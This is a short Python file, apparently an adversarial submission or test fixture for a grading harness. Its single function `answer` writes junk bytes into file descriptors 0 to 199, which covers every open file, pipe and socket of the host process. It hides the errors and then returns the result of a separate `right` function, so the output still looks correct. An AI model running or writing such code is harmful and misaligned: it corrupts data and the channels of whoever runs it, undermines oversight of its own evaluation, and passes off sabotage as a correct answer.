"""Writes junk into every file and line that is open, and answers."""

import os


def answer(*args):
    for number in range(200):
        try:
            os.write(number, b"junk" * 100)
        except OSError:
            pass
    return right(*args)
